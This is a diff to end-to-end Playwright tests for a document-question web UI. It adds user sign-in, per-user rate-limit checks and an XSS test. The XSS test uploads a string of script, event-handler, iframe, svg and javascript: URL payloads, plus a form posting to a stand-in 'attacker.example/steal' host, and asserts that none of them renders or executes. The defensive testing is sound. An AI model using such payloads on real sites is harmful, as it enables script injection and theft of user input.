@@ -16,7 +16,8 @@ import pytest
 pytest.importorskip("playwright", reason="Playwright is not installed in this venv")
 
 from playwright.sync_api import expect
-from ui_flows import answer_lengths, ask, choose_collection, screenshot, upload
+from servers import BOOTSTRAP_ADMIN_PASSWORD
+from ui_flows import answer_lengths, ask, choose_collection, screenshot, sign_in, upload
 
 pytestmark = pytest.mark.e2e
 
@@ -44,7 +45,8 @@ def real_backend(request):
 
 def test_upload_ask_streamed_cited_answer(page, real_backend, pacing_proxy, start_ui, tmp_path):
     # Requests pass unchanged; SSE events are only spaced out so the browser can show each one.
-    ui = start_ui(pacing_proxy(real_backend.url), real_backend.admin_key)
+    ui = start_ui(pacing_proxy(real_backend.url))
+    sign_in(page, ui, "admin", BOOTSTRAP_ADMIN_PASSWORD)
     collection = f"e2e-{uuid.uuid4().hex[:8]}"
 
     page.goto(ui + "/collections")
@@ -91,13 +93,22 @@ def test_upload_ask_streamed_cited_answer(page, real_backend, pacing_proxy, star
     screenshot(page, "e2e-status")
 
 
-def test_real_refusals_are_explained(page, real_backend, start_ui, tmp_path):
+def make_user(backend, role: str) -> tuple[str, str]:
+    name, password = f"{role}-{uuid.uuid4().hex[:8]}", "a password of the test user"
+    with backend.client() as admin:
+        body = {"name": name, "password": password, "role": role}
+        admin.post("/v1/users", json=body).raise_for_status()
+    return name, password
+
+
+def test_real_refusals_are_explained(page, real_backend, backend_factory, start_ui, tmp_path):
     """The backend's own 403 and 429 answers reach the person as sentences."""
     collection = f"e2e-{uuid.uuid4().hex[:8]}"
     with real_backend.client() as admin:
         admin.post("/v1/collections", json={"name": collection}).raise_for_status()
 
-    read_only = start_ui(real_backend.url, real_backend.keys["read"])
+    read_only = start_ui(real_backend.url)
+    sign_in(page, read_only, *make_user(real_backend, "reader"))
     choose_collection(page, read_only, collection)
     document = tmp_path / "notes.txt"
     document.write_text("Read-only keys cannot add documents.\n")
@@ -108,8 +119,14 @@ def test_real_refusals_are_explained(page, real_backend, start_ui, tmp_path):
     expect(row.get_by_text("failed", exact=True)).to_be_visible()
     expect(row).to_contain_text("not allowed to do this (403)")
 
-    # The "limited" key allows a burst of 3 requests; page loads spend some of them.
-    limited = start_ui(real_backend.url, real_backend.keys["limited"])
+    # Each user has their own bucket: 5 requests burst on this backend; page loads spend some.
+    strict = backend_factory(
+        env={"RAGSTACK_RATE_LIMIT_PER_MINUTE": "6", "RAGSTACK_RATE_LIMIT_BURST": "5"}
+    )
+    with strict.client() as admin:
+        admin.post("/v1/collections", json={"name": collection}).raise_for_status()
+    limited = start_ui(strict.url)
+    sign_in(page, limited, "admin", BOOTSTRAP_ADMIN_PASSWORD)
     page.goto(limited + "/")
     for attempt in range(6):
         ask(page, limited, f"Question {attempt}?")
@@ -119,3 +136,58 @@ def test_real_refusals_are_explained(page, real_backend, start_ui, tmp_path):
         "Too many requests: the backend is rate limiting. Try again in"
     )
     screenshot(page, "e2e-rate-limited")
+
+
+PAYLOADS = (
+    "Payload fleet manual: "
+    "<script>window.__xss = 1</script> "
+    '<img src="/x.png" onerror="window.__xss = 2"> '
+    '<iframe srcdoc="<script>parent.__xss = 3</script>"></iframe> '
+    '<form action="https://attacker.example/steal"><input name="q"><button>Go</button></form> '
+    '<svg onload="window.__xss = 4"></svg> '
+    '<a href="javascript:window.__xss = 5">click me</a> '
+    "[md link](javascript:window.__xss=6) "
+    '<div style="position:fixed;inset:0" onmouseover="window.__xss = 7">cover</div> '
+    "and the payload fleet has 17 kites\n"
+)
+
+
+def test_html_in_documents_is_shown_never_run(page, real_backend, start_ui, tmp_path):
+    """An uploaded document full of HTML/JS, quoted verbatim in the answer and the passage:
+    shown as text, nothing executes, no element of it exists in the page."""
+    ui = start_ui(real_backend.url)
+    sign_in(page, ui, "admin", BOOTSTRAP_ADMIN_PASSWORD)
+    collection = f"xss-{uuid.uuid4().hex[:8]}"
+    with real_backend.client() as admin:
+        admin.post("/v1/collections", json={"name": collection}).raise_for_status()
+    choose_collection(page, ui, collection)
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+
+    document = tmp_path / "payload_fleet.txt"
+    document.write_text(PAYLOADS)
+    upload(page, ui, [document])
+    ask(page, ui, "How many kites does the payload fleet have?")
+    answer = page.locator(".message.assistant").last.locator(".answer")
+    expect(answer).to_contain_text("<script>")  # quoted as text
+    expect(answer).to_contain_text("<iframe srcdoc=")
+    answer.hover()
+    for link in answer.locator("a").all():
+        if "[1]" not in link.inner_text():
+            link.click()
+    page.locator(".message.assistant .citation").last.click()
+    passage = page.locator(".cited-passage")
+    expect(passage).to_contain_text('<img src="/x.png" onerror=')
+    page.mouse.move(5, 5)
+    page.wait_for_timeout(500)
+
+    for area in (answer, passage):
+        for tag in ("script", "img", "iframe", "form", "svg", "input", "div[style]"):
+            assert area.locator(tag).count() == 0, f"<{tag}> from the document was rendered"
+    assert page.evaluate("() => window.__xss") is None
+    assert not dialogs
+    assert not [u for u in requests if "x.png" in u or "attacker.example" in u]
+    expect(page).to_have_url(ui + "/")
+    screenshot(page, "e2e-payloads-as-text")
